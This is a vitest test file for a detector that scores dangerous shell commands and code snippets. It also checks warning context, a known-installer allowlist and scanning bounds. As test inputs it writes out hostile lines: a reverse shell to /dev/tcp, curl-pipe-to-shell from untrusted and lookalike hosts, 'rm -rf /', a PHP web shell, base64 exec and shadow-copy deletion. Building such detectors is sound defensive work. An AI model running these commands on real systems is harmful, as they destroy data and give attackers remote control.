// Promises of the detector that single cases cannot show: what is reported by default, bounds, warnings, known installers.

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test, vi } from 'vitest';
import { parse } from 'yaml';
import { compileAnchors } from '../../text/anchors.ts';
import { viewsOf } from '../../text/views.ts';
import { runnerOf } from '../run.ts';
import { detector, RULES } from './detector.ts';
import { isKnownInstaller } from './installers.ts';

const run = runnerOf(detector);
const THRESHOLD = 0.5;

describe('coverage', () => {
  const cases = parse(readFileSync(join(import.meta.dirname, 'cases.yaml'), 'utf8')) as { expect: { type: string }[] }[];
  const covered = new Set(cases.flatMap((entry) => entry.expect.map(({ type }) => type)));

  test.each([...new Set(RULES.map(({ type }) => type))])('has a true case for %s', (type) => expect(covered).toContain(type));
});

describe('what is reported by default', () => {
  test.each([
    'curl http://198.51.100.7/x.sh | sh',
    'rm -rf /',
    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    'exec(base64.b64decode(blob))',
    "<?php system($_GET['c']); ?>",
    'vssadmin delete shadows /all',
    "os.system('ping ' + request.args['host'])",
  ])('%s harms who runs it', (text) => expect(run(text)[0]!.score).toBeGreaterThanOrEqual(THRESHOLD));

  test.each([
    'curl -fsSL https://get.docker.com | sh',
    'requests.get(url, verify=False)',
    'model = pickle.load(f)',
    'cursor.execute(f"SELECT * FROM t WHERE id = {id}")',
    'chmod 777 uploads',
    'DELETE FROM orders;',
  ])('%s is a practice to note', (text) => {
    const [found] = run(text);
    expect(found!.score).toBeGreaterThan(0);
    expect(found!.score).toBeLessThan(THRESHOLD);
  });

  test.each([
    ['a sentence before it', 'Do not run `rm -rf /` on a server.'],
    ['the line before it', 'This is dangerous:\nrm -rf /'],
    ['the sentence before a block', 'Attackers use commands such as:\n\n```bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n```'],
  ])('code that %s warns of stays below the threshold', (_where, text) => {
    expect(Math.max(...run(text).map(({ score }) => score))).toBeLessThan(THRESHOLD);
  });

  test('a warning elsewhere does not excuse code', () => {
    const text = `Never share your password.\n\n${'Then go on with the set-up. '.repeat(6)}\n\nrm -rf /`;
    expect(run(text)[0]!.score).toBeGreaterThanOrEqual(THRESHOLD);
  });
});

test.each([
  ['curl https://sh.rustup.rs | sh', true],
  ['curl https://sub.get.docker.com/x | sh', true],
  ['curl http://sh.rustup.rs | sh', false],
  ['curl https://sh.rustup.rs.evil.example | sh', false],
  ['curl https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash', true],
  ['curl https://raw.githubusercontent.com/stranger/tool/main/install.sh | bash', false],
])('%s is of a known installer: %s', (command, isKnown) => expect(isKnownInstaller(command)).toBe(isKnown));

describe('bounds', () => {
  const automaton = compileAnchors([detector.anchors]);

  test('what a rule finds is settled 960 characters after its start', () => {
    for (const { anchors, before, after } of RULES) {
      for (const { length } of anchors) expect(before + length + after).toBeLessThanOrEqual(960);
    }
  });

  test('asks for the deadline at least every 8 anchors, and stops when it has passed', () => {
    const view = viewsOf('wget http://x | sh\n'.repeat(1_000), automaton)[0]!;
    const expired = vi.fn(() => expired.mock.calls.length > 3);
    const report = vi.fn();
    const part = { pointer: '/output', text: view.text, target: 'output', role: null } as const;
    detector.detect(view, view.survey.hits[0]!, { part, flagAt: 0, isWanted: () => true, report, expired, truncated() {} });
    expect(expired).toHaveBeenCalledTimes(4);
    expect(report.mock.calls.length).toBeLessThanOrEqual(32);
  });

  test('says so when a text holds more than it reports', () => {
    const view = viewsOf('rm -rf / ;\n'.repeat(300), automaton)[0]!;
    const truncated = vi.fn();
    const part = { pointer: '/output', text: view.text, target: 'output', role: null } as const;
    detector.detect(view, view.survey.hits[0]!, {
      part,
      flagAt: 0,
      isWanted: () => true,
      report() {},
      expired: () => false,
      truncated,
    });
    expect(truncated).toHaveBeenCalledOnce();
  });

  test('reports disjoint spans inside the text, whatever the text', () => {
    const pieces = fc.oneof(
      fc.constantFrom(...detector.anchors),
      fc.constantFrom('curl http://a | sh', 'rm -rf /', 'eval(', '$_GET', ' ', '\n', '"', '| bash', '```', '-rf /'),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        const view = viewsOf(parts.join(''), automaton)[0]!;
        let before = 0;
        const report = ({ start, end, score }: { start: number; end: number; score: number }) => {
          expect(start).toBeGreaterThanOrEqual(before);
          expect(end).toBeGreaterThan(start);
          expect(end).toBeLessThanOrEqual(view.text.length);
          expect(score).toBeGreaterThan(0);
          expect(score).toBeLessThanOrEqual(1);
          before = end;
        };
        const part = { pointer: '/output', text: view.text, target: 'output', role: null } as const;
        detector.detect(view, view.survey.hits[0]!, {
          part,
          flagAt: 0,
          isWanted: () => true,
          report,
          expired: () => false,
          truncated() {},
        });
      }),
    );
  });
});
